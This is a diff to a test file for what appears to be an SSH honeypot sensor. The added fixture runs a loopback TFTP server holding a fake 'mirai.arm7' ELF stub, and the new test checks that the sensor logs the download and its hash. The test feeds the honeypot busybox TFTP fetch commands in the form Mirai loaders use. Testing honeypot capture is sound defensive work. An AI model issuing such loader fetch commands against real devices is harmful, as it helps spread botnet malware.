@@ -4,6 +4,8 @@ import hashlib
 import http.server
 import os
 import subprocess
+import shutil
+import socket
 import threading
 
 import pytest
@@ -96,5 +98,42 @@ def test_default_config_fetches_nothing(tmp_path, served):
         failed = wait_for(lambda: s.events(event="file.download.failed"), 10)
         assert failed and failed[0]["url"] == f"http://127.0.0.1:{port}/bins/mirai.x86" and failed[0]["message"] == "refused"
         assert len(seen) == before, "downloads are off by default: the server must not be contacted"
+    finally:
+        s.stop()
+
+
+@pytest.fixture(scope="module")
+def tftpd(tmp_path_factory):
+    """tftp-hpa's server on loopback serving one sample."""
+    if not os.path.exists("/usr/sbin/in.tftpd") or os.geteuid() != 0:
+        pytest.skip("needs root and Debian's tftpd-hpa")
+    root = tmp_path_factory.mktemp("tftproot")
+    os.chmod(root, 0o755)
+    sample = b"\x7fELF\x01\x01\x01" + os.urandom(3000)  # several 512-byte blocks
+    (root / "mirai.arm7").write_bytes(sample)
+    os.chmod(root / "mirai.arm7", 0o644)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind(("127.0.0.1", 0))
+    port = s.getsockname()[1]
+    s.close()
+    proc = subprocess.Popen(["/usr/sbin/in.tftpd", "-L", "-u", "nobody", "-s", str(root), "-a", f"127.0.0.1:{port}"],
+                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    yield port, sample
+    proc.terminate()
+    proc.wait()
+
+
+def test_tftp_fetch_from_a_real_tftpd(tmp_path, tftpd):
+    port, sample = tftpd
+    sha = hashlib.sha256(sample).hexdigest()
+    s = Sensor(tmp_path, ALLOW_LOOPBACK, free_port_base(), worker="ssh").start()
+    try:
+        # busybox's form, as Mirai loaders use it, then tftp-hpa's.
+        r = ssh(2222 + s.offset, f"cd /tmp; tftp -g -r mirai.arm7 127.0.0.1 {port}; sha256sum mirai.arm7; "
+                                 f"tftp 127.0.0.1 {port} -c get mirai.arm7 copy; ls -l copy")
+        assert f"{sha}  mirai.arm7" in r.stdout, r.stdout + r.stderr
+        assert f" {len(sample)} " in r.stdout
+        e = wait_for(lambda: [x for x in s.events(event="file.download") if x.get("url", "").startswith("tftp://")], 10)
+        assert e and e[0]["sha256"] == sha and e[0]["url"] == f"tftp://127.0.0.1:{port}/mirai.arm7"
     finally:
         s.stop()
